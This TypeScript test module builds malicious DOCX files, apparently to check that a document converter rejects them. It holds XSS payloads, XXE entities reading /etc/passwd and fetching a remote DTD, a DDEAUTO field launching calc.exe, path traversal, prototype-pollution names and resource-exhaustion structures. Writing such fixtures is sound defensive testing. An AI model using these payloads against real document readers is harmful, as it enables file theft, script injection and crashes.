import { elsewhere } from './elsewhere.ts';
import { zipOf } from './zip-of.ts';
import type { ZipEntry } from './zip-of.ts';

const office = 'http://schemas.openxmlformats.org';
const namespaces = `xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"
xmlns:wp="${office}/drawingml/2006/wordprocessingDrawing" xmlns:a="${office}/drawingml/2006/main"
xmlns:pic="${office}/drawingml/2006/picture" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"`;

const within = (id: string, kind: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/officeDocument/2006/relationships/${kind}" Target="${target}"/>`;
const outside = (id: string, kind: string, target: string) =>
  within(id, kind, target).replace('/>', ' TargetMode="External"/>');
const list = (relationships: string) =>
  `<Relationships xmlns="${office}/package/2006/relationships">${relationships}</Relationships>`;

interface DocxParts {
  relationships?: string;
  files?: ZipEntry[];
  doctype?: string;
  /** Where the package says that its text is. */
  main?: string;
}

function docxOf(body: string, { relationships = '', files = [], doctype = '', main }: DocxParts = {}) {
  return zipOf([
    {
      name: '[Content_Types].xml',
      data: `<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: list(
        main ? outside('r', 'officeDocument', main) : within('r', 'officeDocument', 'word/document.xml'),
      ),
    },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0"?>${doctype}<w:document ${namespaces}><w:body>${body}</w:body></w:document>`,
      deflated: true,
    },
    { name: 'word/_rels/document.xml.rels', data: list(relationships) },
    ...files,
  ]);
}

const said = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const picture = (from: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="a picture"><a:hlinkClick r:id="script"/></wp:docPr><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip ${from}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const link = (id: string, text: string) =>
  `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
const field = (instruction: string, text: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${text}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const taken = "parent.document.title='TAKEN'";

/** By what they try. The text 'still here' stands in each that can be read. */
export const hostileDocx: Record<string, () => Buffer> = {
  'pictures, links, fields, objects and styles of a DOCX that lead elsewhere': () =>
    docxOf(
      [
        said('still here'),
        ...['r:link="web"', 'r:embed="web"', 'r:embed="file"', 'r:embed="above"', 'r:embed="drawing"'].map(
          picture,
        ),
        link('script', 'a script link'),
        link('page', 'a link elsewhere'),
        link('data', 'a data link'),
        field(`INCLUDEPICTURE "${elsewhere}/field.png" \\d`, 'a field'),
        field(`HYPERLINK "javascript:${taken}"`, 'styled'),
        field(String.raw`DDEAUTO c:\windows\calc.exe`, 'a program'),
        '<w:altChunk r:id="chunk"/>',
        '<w:p><w:r><w:object><v:shape><v:imagedata r:id="web"/></v:shape><o:OLEObject Type="Embed" r:id="object"/></w:object></w:r></w:p>',
        said(`&lt;script&gt;${taken}&lt;/script&gt;&lt;img src=x onerror=${taken}&gt;`),
      ].join(''),
      {
        relationships: [
          outside('web', 'image', `${elsewhere}/picture.png`),
          outside('file', 'image', 'file:///etc/passwd'),
          within('above', 'image', '../../../../etc/passwd'),
          within('drawing', 'image', 'media/drawing.svg'),
          outside('script', 'hyperlink', `javascript:${taken}`),
          outside('page', 'hyperlink', elsewhere),
          outside('data', 'hyperlink', 'data:text/html,&lt;script&gt;1&lt;/script&gt;'),
          outside('template', 'attachedTemplate', `${elsewhere}/template.dotm`),
          outside('frame', 'frame', `${elsewhere}/frame`),
          within('chunk', 'aFChunk', 'chunk.html'),
          within('object', 'oleObject', 'object.bin'),
        ].join(''),
        files: [
          {
            name: 'word/media/drawing.svg',
            data: `<svg xmlns="http://www.w3.org/2000/svg" onload="${taken}"><image href="${elsewhere}/i"/></svg>`,
          },
          { name: 'word/chunk.html', data: `<script>${taken}</script><img src="${elsewhere}/chunk">` },
          { name: 'word/object.bin', data: 'MZ' },
          { name: 'mammoth/style-map', data: `p => iframe[srcdoc='<script>${taken}</script>']:fresh` },
        ],
      },
    ),
  'names and merged cells of a DOCX that no tool writes': () =>
    docxOf(
      `<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr><w:bookmarkStart w:id="1" w:name="__proto__"/><w:r><w:t>still here</w:t></w:r></w:p>
<w:p><w:hyperlink w:anchor="constructor"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>
<w:tbl>${`<w:tr>${`<w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr>${said('x')}</w:tc>`.repeat(20)}</w:tr>`.repeat(20)}</w:tbl>`,
    ),
  'a DOCX whose text is elsewhere': () => docxOf(said('still here'), { main: `${elsewhere}/document.xml` }),
};

/** They say so, and offer the download. */
export const unreadableDocx: Record<string, () => Buffer> = {
  'a DOCX with entities': () =>
    docxOf(said('&file; &net; &b;'), {
      doctype: `<!DOCTYPE w [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${elsewhere}/entity">
<!ENTITY % dtd SYSTEM "${elsewhere}/outer.dtd"> %dtd;<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>`,
    }),
  'a DOCX nested 50,000 deep': () =>
    docxOf(
      `${'<w:sdt><w:sdtContent>'.repeat(50_000)}${said('deep')}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`,
    ),
};
